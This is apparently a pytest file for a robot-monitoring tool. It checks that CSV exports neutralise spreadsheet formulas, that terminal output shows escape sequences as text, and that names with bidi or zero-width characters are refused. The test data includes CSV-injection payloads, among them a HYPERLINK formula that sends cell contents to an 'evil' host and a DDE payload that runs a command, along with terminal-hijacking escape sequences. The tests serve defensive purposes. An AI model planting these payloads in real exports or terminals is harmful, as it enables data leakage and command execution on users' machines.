"""Names a robot chooses cannot command a spreadsheet or a terminal, nor pass for another name.

Entity and robot names come from the robot's software or from anyone on its bus. A CSV
export must show ``=HYPERLINK(...)`` as text (OWASP CSV injection), anything printed to a
terminal must show an escape sequence instead of obeying it, and a configuration naming a
robot or topic with a bidi override or a zero-width character is refused.
"""

from __future__ import annotations

import csv
import io
import subprocess
import sys
from pathlib import Path

import pytest

from blackbox.cli import main
from blackbox.cli.listen import render
from blackbox.model import Code, Observation, Resource
from blackbox.output.live import LiveStatusView
from blackbox.record.export import write_csv
from blackbox.record.store import Row, Store

FORMULAS = ["=HYPERLINK(\"http://evil/?\"&A1,\"click\")", "+cmd|' /C calc'!A0", "-2+3+cmd",
            "@SUM(1+1)*cmd", "\t=1+1", "\r=1+1"]
ESCAPES = "\x1b[2J\x1b]0;owned\x07\x1b[10A\x08\x9b31m"
"""Clear screen, set the window title, cursor up, backspace, a C1 CSI."""


def log_with_entities(path: Path, names: list[str]) -> Path:
    with Store.open(path) as store:
        store.append([Row(100.0 + i, "observation", (name, "hz", "{}"), -1,
                          {"message": "dead"}) for i, name in enumerate(names)])
    return path


def csv_rows(text: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(text)))


def test_csv_cells_that_a_spreadsheet_would_run_are_quoted_as_text(tmp_path: Path) -> None:
    log = log_with_entities(tmp_path / "log.db", [*FORMULAS, "/usb_cam/image_raw"])
    with Store.open(log, readonly=True) as store:
        out = io.StringIO()
        write_csv(store.query(), out)
    rows = csv_rows(out.getvalue())[1:]
    assert [row[3] for row in rows] == ["'" + f for f in FORMULAS] + ["/usb_cam/image_raw"]
    assert [row[5] for row in rows] == ["-1"] * len(rows)  # numbers stay numbers


def test_blackbox_log_export_csv_neutralises_formulas(tmp_path: Path) -> None:
    log = log_with_entities(tmp_path / "log.db", FORMULAS)
    out = tmp_path / "log.csv"
    assert main(["log", "export", "--db", str(log), "-o", str(out)]) == 0
    entities = [row[3] for row in csv_rows(out.read_text())[1:]]
    assert all(cell.startswith("'") for cell in entities), entities


def test_the_stations_csv_download_neutralises_formulas(tmp_path: Path) -> None:
    from blackbox.health.ids import robot_resource_id
    from blackbox.record.store import LogEntry
    from blackbox.station.store import StationStore

    store = StationStore.open(tmp_path / "station.db")
    try:
        rid = robot_resource_id("ward-bot")
        store.heard(rid, 100.0)
        store.put_robot_id(rid, "ward-bot")
        request = store.create_log_request(rid, "ward-bot", entity=None, characteristic=None,
                                           since=0.0, until=200.0, kinds=[],
                                           requested_by="otto")
        store.add_log_rows(request, 0, [LogEntry(i, 100.0 + i, "failure", name, "=cmd()",
                                                 -1, {"n": i})
                                        for i, name in enumerate(FORMULAS)])
        store.update_log_request(request, rid, status="done", rows=len(FORMULAS), pages=1,
                                 progress=1.0)
        store.flush()
        out = io.StringIO()
        store.export_log(request, "csv", out)
    finally:
        store.close()
    rows = csv_rows(out.getvalue())[1:]
    assert [row[3] for row in rows] == ["'" + f for f in FORMULAS]
    assert {row[4] for row in rows} == {"'=cmd()"}


def test_blackbox_log_query_shows_escape_sequences_as_text(
        tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    log = log_with_entities(tmp_path / "log.db", [f"/cam{ESCAPES}"])
    assert main(["log", "query", "--db", str(log)]) == 0
    printed = capsys.readouterr().out
    assert "\x1b" not in printed and "\x07" not in printed and "\x9b" not in printed
    assert "/cam\\x1b[2J\\x1b]0;owned\\x07" in printed


def test_listen_shows_robot_names_and_events_with_escapes_visible() -> None:
    from rich.console import Console

    state = {"robots": {f"ward{ESCAPES}": {
        "status": "OPERATIONAL", "stale": False, "online": True,
        "entities": {f"/cam{ESCAPES}": {"health": "OPERATIONAL", "online": True,
                                        "kind": f"node{ESCAPES}", "bit": False,
                                        "failures": 0}},
        "events": [{"time": 0.0, "kind": "failure", "entity": f"/cam{ESCAPES}",
                    "text": f"dead{ESCAPES}", "origin": "live"}]}},
        "received": 1, "rejected": 0, "problems": [f"forged{ESCAPES}"]}
    out = io.StringIO()
    Console(file=out, force_terminal=False, no_color=True, width=300).print(
        render(state, colour=False))
    text = out.getvalue()
    assert "\x1b" not in text and "\x07" not in text and "\x9b" not in text and "\x08" \
        not in text
    assert text.count("\\x1b]0;owned\\x07") >= 5  # robot, entity, kind, event, problem


def test_the_live_view_prints_graph_names_with_escapes_visible() -> None:
    out = io.StringIO()
    view = LiveStatusView(out, interactive=False)
    view.on_observations(1.0, [Observation(1.0, "hz", Resource(topic=f"/t{ESCAPES}"),
                                           Code(-1), message=f"late{ESCAPES}")])
    assert "\x1b" not in out.getvalue() and "\\x1b[2J" in out.getvalue()
    assert "\x1b" not in view.render()


@pytest.mark.parametrize("text, where, character", [
    ("robot:\n  id: \"ward\u202e3\"\nobservers:\n  - {type: hz, topic: /scan}\n",
     "at robot.id:", "U+202E RIGHT-TO-LEFT OVERRIDE"),
    ("observers:\n  - {type: hz, topic: \"/sc\u200ban\"}\n", "at observers[0].topic:",
     "U+200B ZERO WIDTH SPACE"),
    ("robot: {id: \"ward\u20663\"}\nobservers:\n  - {type: hz, topic: /scan}\n",
     "at robot.id:", "U+2066 LEFT-TO-RIGHT ISOLATE"),
])
def test_names_with_bidi_or_zero_width_characters_are_refused(
        tmp_path: Path, text: str, where: str, character: str) -> None:
    path = tmp_path / "config.yaml"
    path.write_text(text, encoding="utf-8")
    result = subprocess.run([sys.executable, "-m", "blackbox", "check-config", str(path)],
                            capture_output=True, text=True, timeout=60, check=False)
    assert result.returncode == 2, result.stdout
    lines = result.stderr.strip().splitlines()
    assert len(lines) == 1 and where in lines[0] and character in lines[0], lines


def test_an_export_to_a_terminal_shows_escape_sequences_as_text(tmp_path: Path) -> None:
    """``blackbox log export`` without ``-o`` on a terminal (a pseudo-terminal here): CSV
    and JSON lines keep their lines, names lose their power over the terminal."""
    import os
    import pty

    log = log_with_entities(tmp_path / "log.db", [f"/cam{ESCAPES}"])
    for fmt in ("csv", "jsonl"):
        leader, follower = pty.openpty()
        try:
            process = subprocess.run([sys.executable, "-m", "blackbox", "log", "export",
                                      "--db", str(log), "--format", fmt], stdout=follower,
                                     stderr=subprocess.PIPE, timeout=60, check=False)
            os.close(follower)
            follower = -1
            shown = b""
            while True:
                try:
                    chunk = os.read(leader, 65536)
                except OSError:  # EIO: the writer has gone and everything was read
                    break
                if not chunk:
                    break
                shown += chunk
        finally:
            os.close(leader)
            if follower >= 0:
                os.close(follower)
        assert process.returncode == 0, process.stderr
        text = shown.decode(errors="replace")
        assert "\x1b" not in text and "\x07" not in text and "\x9b" not in text, text
        assert "/cam" in text and text.count("\n") >= 1
